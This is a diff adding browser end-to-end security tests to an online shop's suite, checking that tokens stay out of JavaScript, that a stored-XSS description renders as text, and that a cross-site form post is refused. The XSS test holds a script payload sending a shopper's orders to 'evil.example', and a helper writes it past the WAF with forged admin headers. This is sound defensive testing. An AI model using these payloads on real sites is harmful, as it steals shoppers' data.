@@ -440,6 +440,97 @@ def test_a_signed_in_shopper_checks_out_and_sees_the_confirmation(page, journey)
     journey.done["order"] = page.url.split("/orders/", 1)[1].split("?", 1)[0]
 
 
+def test_no_token_is_reachable_from_javascript_while_signed_in(page, journey):
+    """The gateway keeps the tokens (issue 22): the page holds an HttpOnly session cookie and nothing else."""
+    journey.needs("signup")
+    held = page.evaluate(
+        """() => ({cookie: document.cookie, local: JSON.stringify(localStorage),
+                   session: JSON.stringify(sessionStorage)})"""
+    )
+    for where, text in held.items():
+        assert "eyJ" not in text, f"{where} holds a JWT: {text[:200]}"
+        assert "token" not in text.lower(), f"{where} names a token: {text[:200]}"
+    assert "shop-session" not in held["cookie"]
+    assert "shop-cart" not in held["cookie"]
+    cookies = {c["name"]: c for c in page.context.cookies()}
+    session = cookies["__Host-shop-session"]  # the session the journey is signed in with
+    assert session["httpOnly"]
+    assert session["secure"]
+    assert session["sameSite"] in ("Lax", "Strict")
+    assert session["path"] == "/"
+    assert not session["domain"].startswith(".")
+    assert "eyJ" not in session["value"]  # an opaque id, not a JWT
+    me = page.evaluate("""async () => (await fetch('/api/session', {headers: {'X-Shop-CSRF': '1'}})).json()""")
+    assert me["signed_in"] is True
+    assert me["email"] == journey.done["signup"]
+    assert set(me) == {"signed_in", "email", "groups", "guest_cart"}
+
+
+def test_a_product_description_carrying_a_script_neither_runs_nor_calls_the_api_as_the_shopper(page, journey, shop):
+    journey.needs("signup", "product")
+    product_id = journey.done["product"].rsplit("/p/", 1)[1].split("?", 1)[0]
+    payload = (
+        "A fine pan.<script>window.__stolen = 1; fetch('/api/orders', {headers: {'X-Shop-CSRF': '1'}})"
+        ".then((r) => r.text()).then((t) => fetch('http://evil.example/steal?' + encodeURIComponent(t)))</script>"
+        "<img src=x onerror=\"window.__stolen = 2; fetch('/api/me/addresses')\">"
+    )
+    _as_admin_patch(shop, product_id, {"description": payload})  # stored XSS, written past the WAF at the service
+    asked: list[str] = []
+    listener = lambda r: asked.append(r.url)  # noqa: E731
+    page.on("request", listener)
+    try:
+        page.goto(journey.done["product"])
+        description = page.locator("main .description")
+        expect(description).to_contain_text("<script>window.__stolen")  # shown as text, never parsed as HTML
+        settled(page)
+        page.wait_for_timeout(500)  # a payload would fire at once: give it the chance to show itself
+    finally:
+        page.remove_listener("request", listener)
+    assert page.evaluate("() => window.__stolen") is None
+    assert not [u for u in asked if "evil.example" in u or "/api/orders" in u or "/api/me/" in u], asked
+    assert page.locator("main .description script, main .description img").count() == 0
+    assert_csp_holds(page)
+
+
+def test_a_cross_site_form_post_to_a_write_route_is_refused_with_a_403_problem(page, journey, shop):
+    journey.needs("signup")
+    before = page.locator("#cart-count").inner_text()
+    page.context.route(
+        "http://evil.example/**",
+        lambda route: route.fulfill(status=200, content_type="text/html", body=(
+            f'<form method="post" action="{shop.url}/api/cart/items">'
+            '<input name="product_id" value="p-1"><input name="quantity" value="9">'
+            '<button type="submit">Win a prize</button></form>')),
+    )  # fmt: skip
+    try:
+        page.goto("http://evil.example/")
+        with page.expect_response(f"{shop.url}/api/cart/items") as answered:
+            page.get_by_role("button", name="Win a prize").click()
+        response = answered.value
+        assert response.status == 403
+        problem = response.json()
+        assert response.headers["content-type"] == "application/problem+json"
+        assert problem["title"] == "Cross-site request refused", problem
+    finally:
+        page.context.unroute("http://evil.example/**")
+    page.goto("/cart")
+    expect(page.locator("#cart-count")).to_have_text(before)  # nothing was added for the shopper
+    RESPONSES.clear()  # the evil page's own answers are not the shop's
+
+
+def _as_admin_patch(shop: Stack, product_id: str, changes: dict[str, Any]) -> None:
+    """Change a product as the catalog's admin would, straight at the catalog service (the gateway's identity
+    headers, as on the cluster network): the WAF would refuse this body at the edge."""
+    import httpx
+
+    url = shop.env["SHOP_SERVICE_CATALOG_URL"].rstrip("/")
+    answer = httpx.patch(
+        f"{url}/catalog/products/{product_id}", json=changes, timeout=15,
+        headers={"X-Shop-User": "e2e-admin", "X-Shop-Email": "admin@shop.example.com", "X-Shop-Groups": "admin"},
+    )  # fmt: skip
+    assert answer.status_code == 200, answer.text
+
+
 def test_after_signing_in_again_the_order_is_in_the_history_and_its_detail(page, journey):
     journey.needs("order")
     page.get_by_role("button", name="Sign out").click()
